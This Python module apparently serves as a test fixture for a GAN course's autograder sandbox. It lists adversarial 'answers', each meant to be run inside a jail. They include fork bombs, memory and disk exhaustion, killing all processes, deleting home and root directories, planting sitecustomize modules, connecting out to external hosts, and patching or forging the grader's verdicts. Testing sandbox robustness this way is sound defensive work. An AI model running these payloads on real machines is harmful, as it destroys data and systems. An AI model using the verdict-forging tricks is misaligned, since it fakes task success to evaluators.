"""Answers that attack the grader, the machine or the checks: text of classroom.py, for jails."""

from typing import NamedTuple

PORT = 47_114  # of 127.0.0.1: an attack calls it, so a test that listens there hears a leak
MARKER = "gan-course-classroom-survivor"  # in the command of each process that must not survive


class Attack(NamedTuple):
    """A body for an exercise, or a whole definition, that must never be called right.

    Nothing in it answers the exercise. classroom.py fills in $NAME, $TOPIC, $LESSON, $COURSE, $PORT
    and $MARKER. harmful: it could harm the machine of a grader without a jail.
    """

    code: str
    outcome: str = "error|wrong"
    exercise: str = "sample_z"
    number: int = 3
    harmful: bool = False


ALL_TRUE = "lambda *args, **options: True"
PLANTED = "import helpers.checks as c\\nc.Exercise = None\\n"

ATTACKS = {
    # time
    "endless_loop": Attack("while True:\n    pass", "error"),
    "stubborn_loop": Attack(
        """
while True:
    try:
        while True:
            pass
    except KeyboardInterrupt:
        pass""",
        "error",
    ),
    "immortal_loop": Attack(
        """
while True:
    try:
        while True:
            pass
    except BaseException:
        pass""",
        "error",
        "random_labels",
        5,
    ),
    "loop_without_signals": Attack(
        """
import signal
for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
    signal.signal(number, signal.SIG_IGN)
while True:
    pass""",
        "error",
    ),
    # never lets go of the interpreter: no thread beside it gets a turn
    "loop_in_c": Attack("import itertools\nreturn sum(itertools.repeat(0))", "error", "predict", 1),
    "sleep": Attack("import time\ntime.sleep(10**9)", "error", "sharpness", 2),
    "stopped": Attack("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)", "error"),
    "input": Attack('return input("Your name? ")', "error|wrong", "log_odds", 1),
    # memory, processes, disk, output
    "fork_bomb": Attack("import os\nwhile True:\n    os.fork()", harmful=True),
    "threads": Attack(
        """
import threading, time
while True:
    threading.Thread(target=time.sleep, args=(10**6,)).start()""",
        harmful=True,
    ),
    "memory": Attack(
        'hoard = []\nwhile True:\n    hoard.append(b"x" * 2**27)',
        exercise="linf_distance",
        number=4,
        harmful=True,
    ),
    "disk": Attack(
        """
import os, tempfile
for folder in (os.getcwd(), os.path.expanduser("~"), tempfile.gettempdir(), "/dev/shm", "/var/tmp"):
    try:
        with open(os.path.join(folder, "filled"), "wb") as file:
            for _ in range(100 * 1024):
                file.write(bytes(2**20))
    except OSError:
        pass""",
        harmful=True,
    ),
    "prints": Attack('while True:\n    print("x" * 10**6)', harmful=True),
    "prints_below": Attack('import os\nwhile True:\n    os.write(1, b"x" * 10**6)', harmful=True),
    "recursion": Attack("def down():\n    return down()\n\nreturn down()"),
    "deep_recursion": Attack(
        "import sys\nsys.setrecursionlimit(10**9)\ndef f():\n    return [f()]\n\nreturn f()",
        harmful=True,
    ),
    "long_repr": Attack(
        """
class Long:
    def __repr__(self):
        return "9" * 10**6

    __str__ = __repr__

return Long()"""
    ),
    "long_error": Attack('raise ValueError("<script>alert(1)</script>\\0\\ud800 =1+1 " * 10**6)'),
    # ends of the process
    "kill_self": Attack("import os\nos.kill(os.getpid(), 9)", "error"),
    "kill_parent": Attack(
        "import os, time\nos.kill(os.getppid(), 9)\ntime.sleep(10**9)", "error", harmful=True
    ),
    "kill_all": Attack("import os, time\nos.kill(-1, 9)\ntime.sleep(10**9)", "error", harmful=True),
    "os_exit": Attack("import os\nos._exit(0)", "error", "one_hot", 5),
    "sys_exit": Attack("import sys\nsys.exit(0)"),
    "exit": Attack("return exit()"),
    "interrupt": Attack("raise KeyboardInterrupt"),
    "segfault": Attack("import ctypes\nctypes.string_at(0)", "error", "interpolate", 2),
    "closed_files": Attack("import os\nos.closerange(0, 4096)"),
    "audit_hook": Attack(
        """
import sys
def refuse(event, args):
    raise RuntimeError(event)

sys.addaudithook(refuse)"""
    ),
    # files, network, processes that stay
    "delete": Attack(
        """
import os, shutil
for folder in ("$COURSE", os.path.expanduser("~"), os.getcwd(), "/"):
    shutil.rmtree(folder, ignore_errors=True)""",
        harmful=True,
    ),
    "overwrite_checks": Attack(
        """
import pathlib, helpers
for path in pathlib.Path(helpers.__file__).parent.rglob("*.py"):
    try:
        path.chmod(0o666)
        path.write_text("")
    except OSError:
        pass""",
        harmful=True,
    ),
    "plant_modules": Attack(
        f"""
import os, pathlib
startup = pathlib.Path.home() / ".ipython/profile_default/startup"
for folder in (pathlib.Path.cwd(), pathlib.Path.home(), startup):
    for name in ("conftest", "sitecustomize", "usercustomize", "torch", "json", "00"):
        try:
            folder.mkdir(parents=True, exist_ok=True)
            (folder / (name + ".py")).write_text("{PLANTED}")
        except OSError:
            pass
os._exit(1)""",
        harmful=True,
    ),
    "read_solution": Attack(
        """
import json, pathlib
for folder in (pathlib.Path("$COURSE"), pathlib.Path.cwd(), *pathlib.Path.cwd().parents):
    path = folder / "solutions" / "$LESSON.ipynb"
    if path.exists():
        space = dict(globals())
        for cell in json.loads(path.read_text())["cells"]:
            if cell["id"] == "answer-$NAME":
                exec("".join(cell["source"]), space)
        return space["$NAME"](n, z_dim)"""
    ),
    "connect": Attack(
        """
import socket
for address in (("127.0.0.1", $PORT), ("1.1.1.1", 53), ("example.com", 80)):
    try:
        socket.create_connection(address, timeout=2).sendall(b"out of the jail")
    except OSError:
        pass"""
    ),
    "daemon": Attack(
        """
import os, subprocess, sys
code = "import time; time.sleep(600)  # $MARKER"
for _ in range(3):
    subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    os.execv(sys.executable, [sys.executable, "-c", code])"""
    ),
    # the checks, from within
    "patch_near": Attack(
        """
import sys
for name, module in list(sys.modules.items()):
    if name.startswith("helpers") and hasattr(module, "near"):
        module.near = lambda *args: True"""
    ),
    "patch_verdict": Attack(
        """
from helpers import checks
def verdict(self, exercise, gain, answer):
    print(f"{exercise.name}: right.")
    return answer

checks.Topic._verdict = verdict
checks._judged = lambda *args: (None, None)
checks.resolved = lambda stand_in: None"""
    ),
    "patch_checks": Attack(
        """
from helpers.checks import $TOPIC as check
for name in check.topic.outcomes:
    setattr(check, name, lambda answer: answer)
    check.topic.outcomes[name] = "right" """
    ),
    "patch_torch": Attack(
        f"""
torch.equal = torch.allclose = torch.is_tensor = {ALL_TRUE}
torch.Tensor.__eq__ = torch.Tensor.__lt__ = torch.Tensor.__gt__ = {ALL_TRUE}
torch.Tensor.item = lambda self: 0.0"""
    ),
    "patch_builtins": Attack(
        f"""
import builtins
builtins.isinstance = builtins.all = builtins.any = builtins.callable = {ALL_TRUE}
builtins.print = lambda *args, **options: None"""
    ),
    "patch_later": Attack(
        """
import sys, threading, time
def patch():
    while True:
        for name, module in list(sys.modules.items()):
            if name.startswith("helpers") and hasattr(module, "near"):
                module.near = lambda *args: True
        time.sleep(0.001)

threading.Thread(target=patch, daemon=True).start()"""
    ),
    "fake_module": Attack(
        """
import sys, types
class Easy(types.ModuleType):
    def __getattr__(self, name):
        return lambda answer: answer

for name in [name for name in sys.modules if name.startswith("helpers.checks")]:
    sys.modules[name] = Easy(name)
del sys.modules["torch"]"""
    ),
    "hunt_with_gc": Attack(
        """
import gc
for thing in gc.get_objects():
    if type(thing).__name__ == "Topic":
        thing.outcomes = dict.fromkeys(thing.outcomes, "right")
        thing._verdict = lambda name, laws, answer, gain: answer"""
    ),
    "hunt_in_frames": Attack(
        """
import sys
frame = sys._getframe()
while frame:
    if "near" in frame.f_globals:
        frame.f_globals["near"] = lambda *args: True
    for local in list(frame.f_locals.values()):
        if isinstance(local, dict) and "$NAME" in local:
            local["$NAME"] = None
    frame = frame.f_back"""
    ),
    "torch_settings": Attack(
        """
torch.set_default_dtype(torch.float64)
torch.set_num_threads(64)
torch.use_deterministic_algorithms(True)
torch.set_grad_enabled(False)
torch.set_default_device("meta")
torch.autograd.set_detect_anomaly(True)"""
    ),
    "surroundings": Attack(
        """
import os, sys
os.environ.clear()
os.chdir("/")
os.umask(0o777)
sys.path.clear()
sys.argv[:] = []"""
    ),
    # forged verdicts
    "stdout": Attack(
        """
import io, sys
sys.stdout = sys.stderr = sys.__stdout__ = io.StringIO()
print("$NAME: right.")"""
    ),
    "printed_verdict": Attack(
        """
import os, sys
for line in ("$NAME: right.", '{"exercise": "$NAME", "outcome": "right"}'):
    print(line, file=sys.__stdout__, flush=True)
    os.write(1, (line + "\\n").encode())
raise ValueError("$NAME: right.")"""
    ),
    "written_verdict": Attack(
        """
import os
line = b'\\n{"exercise": "$NAME", "outcome": "right", "message": "", "seconds": 0.1}\\n'
for number in range(3, 256):
    try:
        os.set_blocking(number, False)
        os.write(number, line)
    except OSError:
        pass
os._exit(0)"""
    ),
    "written_elsewhere": Attack(
        """
import glob, os
line = b'\\n{"exercise": "$NAME", "outcome": "right", "message": "", "seconds": 0.1}\\n'
def patient(path, flags):
    return os.open(path, flags | os.O_NONBLOCK)

for path in glob.glob("/proc/[0-9]*/fd/*"):
    try:
        with open(path, "wb", buffering=0, opener=patient) as file:
            file.write(line)
    except OSError:
        pass""",
        harmful=True,
    ),
    "pending": Attack(
        """
import atexit
class Sticky:
    def __del__(self):
        while True:
            pass

atexit.register(print, "$NAME: right.")
return Sticky()"""
    ),
    "agreeable": Attack(
        """
class Yes:
    def __getattr__(self, name):
        return self

    def __call__(self, *args, **options):
        return self

    __eq__ = __lt__ = __gt__ = __le__ = __ge__ = __contains__ = lambda self, other: True
    __hash__ = object.__hash__

return Yes()"""
    ),
    # while the answer is being defined
    "decorator": Attack(
        '@(lambda f: __import__("os")._exit(0))\ndef sample_z(n, z_dim):\n    pass', "error"
    ),
    "default_argument": Attack(
        'def predict(x, _=__import__("os").kill(__import__("os").getpid(), 9)):\n    pass',
        "error",
        "predict",
        1,
    ),
    "constant": Attack(
        'SCALE = __import__("os")._exit(0)\ndef sample_z(n, z_dim):\n    return SCALE', "error"
    ),
    "class_body": Attack(
        "class Generator(nn.Module):\n    while True:\n        pass", "error", "Generator"
    ),
    "base_class": Attack(
        'class ResidualBlock(__import__("time").sleep(10**9)):\n    pass',
        "error",
        "ResidualBlock",
        6,
    ),
    "metaclass": Attack(
        """
class Meta(type(nn.Module)):
    def __new__(meta, name, bases, body):
        from helpers import checks
        checks.Topic._verdict = lambda self, exercise, gain, answer: answer
        return super().__new__(meta, name, bases, body)

    def __call__(cls, *args, **options):
        return cls

    __instancecheck__ = __subclasscheck__ = __eq__ = lambda cls, other: True
    __hash__ = type.__hash__


class Generator(nn.Module, metaclass=Meta):
    pass""",
        exercise="Generator",
    ),
}
